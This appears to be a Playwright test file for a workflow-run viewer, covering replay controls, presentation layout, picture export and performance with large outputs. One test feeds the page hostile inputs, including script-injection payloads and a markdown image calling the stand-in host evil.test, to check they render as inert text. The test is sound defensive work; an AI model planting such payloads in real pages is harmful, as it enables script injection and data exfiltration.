"""Replay, presenting, pictures, hostile text and large runs in Chromium."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from playwright.sync_api import expect

from .pages import See, heard, show
from .scenes import payload_of, scenes
from .story import PROMPT, Story, demo_workflow
from .workflows import random_workflow, workflow_from

pytestmark = pytest.mark.browser
BELOW = """() => root.querySelector('.stage').getBoundingClientRect().top -
  Math.max(...[...root.querySelectorAll('.state > *')].map((each) => each.getBoundingClientRect().bottom))"""
HALFWAY = "(bar) => { bar.value = bar.max / 2; bar.dispatchEvent(new Event('input')); }"
OPACITY = "(bar) => new Promise((done) => setTimeout(() => done(getComputedStyle(bar).opacity), 400))"


def test_a_replay_plays_without_a_call_and_can_be_steered(see: See) -> None:
    page = see("replay")
    calls: list[str] = []
    page.on("request", lambda request: calls.append(request.url))
    page.on("websocket", lambda line: calls.append(line.url))
    expect(page.locator(".replay-mark")).to_have_text("Replay")
    page.locator(".seek").evaluate(HALFWAY)
    page.get_by_role("button", name="Pause").click()
    expect(page.locator(".run")).to_contain_text("Running")
    page.get_by_role("button", name="Speed 5").click()
    page.get_by_role("button", name="Play").click()
    expect(page.locator(".run")).to_contain_text("Done", timeout=8000)
    page.locator("[data-step=s1]").focus()
    page.keyboard.press(",")
    expect(page.locator(".run")).to_contain_text("Running")
    assert calls == []
    assert len(heard(page, "finished")) == 1


def test_presenting_shows_the_prompt_and_hides_its_controls(see: See) -> None:
    page = see("present", width=1600, height=900, bare="1")
    expect(page.locator(".ask")).to_have_text(PROMPT)
    expect(page.locator(".tools")).to_be_hidden()
    expect(page.locator(".wfg")).to_have_class(re.compile("quiet"), timeout=6000)
    assert page.locator(".player").evaluate(OPACITY) == "0"
    page.keyboard.press(" ")
    expect(page.get_by_role("button", name="Play")).to_be_attached()
    page.mouse.move(200, 200)
    page.mouse.move(300, 300)
    expect(page.locator(".wfg")).not_to_have_class(re.compile("quiet"))
    assert page.locator(".card").first.evaluate("(card) => card.getBoundingClientRect().width") > 270


@pytest.mark.parametrize("width", [1600, 700, 390])
def test_presenting_begins_below_its_heading(see: See, width: int) -> None:
    page = see("present", width=width, height=844, bare="1")
    for scene in ("present", "resumed_present"):
        show(page, scenes()[scene])
        page.wait_for_timeout(150)
        assert page.evaluate(BELOW) >= 0


@pytest.mark.parametrize(("choice", "start"), [("SVG, dark", b"<svg"), ("PNG, light", b"\x89PNG")])
def test_the_drawing_is_saved_as_a_picture(see: See, choice: str, start: bytes, tmp_path: Path) -> None:
    page = see("done")
    page.get_by_label("Save as picture").click()
    with page.expect_download() as waited:
        page.get_by_role("menuitem", name=choice).click()
    saved = tmp_path / "picture"
    waited.value.save_as(saved)
    data = saved.read_bytes()
    assert data.startswith(start) and waited.value.suggested_filename.startswith("workflow-run_demo.")
    if start.startswith(b"\x89"):
        across = 4 * (320 + 52) + 124 + (34 + 124) + 2 * 32
        assert int.from_bytes(data[16:20], "big") == 2 * across


HOSTILE = [
    "![x](http://evil.test/?d=1)",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<svg onload=alert(1)>",
    "<img src=x onerror=alert(1)>",
]
LABELS = [
    "solve[1]",
    "a]b",
    "end",
    "graph",
    "default",
    "B，test",
    'x"y',
    "<img src=x onerror=alert(1)>",
    "😀🧪",
    "constructor",
    "__proto__",
]


def test_labels_and_outputs_are_shown_as_text_and_nothing_else(see: See) -> None:
    """Behaviour row 14: labels that could be code are drawn as text."""
    page = see("empty")
    seen: list[str] = []
    page.on("request", lambda request: seen.append(request.url))
    page.on("dialog", lambda dialog: seen.append(dialog.message))
    flow = workflow_from([[at - 1] if at else [] for at in range(len(LABELS))])
    steps = [
        step.model_copy(update={"worker": LABELS[at], "instruction": HOSTILE[at % 4]})
        for at, step in enumerate(flow.steps)
    ]
    story = Story(flow.model_copy(update={"steps": tuple(steps)}), "run_odd").begin(is_planned=False)
    for at, step in enumerate(steps):
        story.start(step.step_id).finish(step.step_id, output=HOSTILE[at % 4])
    show(page, {**payload_of(story), "api": None})
    assert page.locator(".worker").all_text_contents() == LABELS
    assert page.locator(".instruction").all_text_contents() == [HOSTILE[at % 4] for at in range(len(LABELS))]
    assert page.locator(".box .text").all_text_contents() == [HOSTILE[at % 4] for at in range(len(LABELS))]
    page.wait_for_timeout(200)
    assert seen == []
    assert page.evaluate("root.querySelectorAll('img, iframe, script').length") == 0


def test_twenty_megabytes_of_output_leave_the_page_usable(see: See) -> None:
    """Behaviour row 20: 20 MB of output in a card."""
    page = see("running")
    story = demo_story_with_big_output()
    start = page.evaluate("performance.now()")
    show(page, {**payload_of(story), "api": None})
    expect(page.locator("[data-box=s2] .text")).to_contain_text("word 漢😀")
    page.click("[data-step=s2]")
    assert page.evaluate("performance.now()") - start < 1500
    assert page.evaluate("root.querySelector('[data-box=s2] .text').textContent.length") < 1000


def demo_story_with_big_output() -> Story:
    story = Story(run_id="run_big").begin().planned().start("s1").finish("s1")
    return story.start("s2").finish("s2", output="word 漢😀 " * 2_500_000)


def test_sixty_steps_are_drawn_and_reached(see: See) -> None:
    """Behaviour row 20: 60 nodes."""
    page = see("empty")
    story = Story(random_workflow(3, steps=60, density=0.06), "run_60").begin(is_planned=False)
    start = page.evaluate("performance.now()")
    show(page, {**payload_of(story), "api": None})
    assert page.locator(".card").count() == 60
    assert page.evaluate("performance.now()") - start < 1500
    page.locator(".stage [tabindex='0']").focus()
    page.keyboard.press("End")
    expect(page.locator("[data-step=s60]")).to_be_in_viewport()


def test_the_workflow_of_the_demo_is_the_one_shown(see: See) -> None:
    page = see("done")
    assert page.locator(".worker").all_text_contents() == [step.worker for step in demo_workflow().steps]
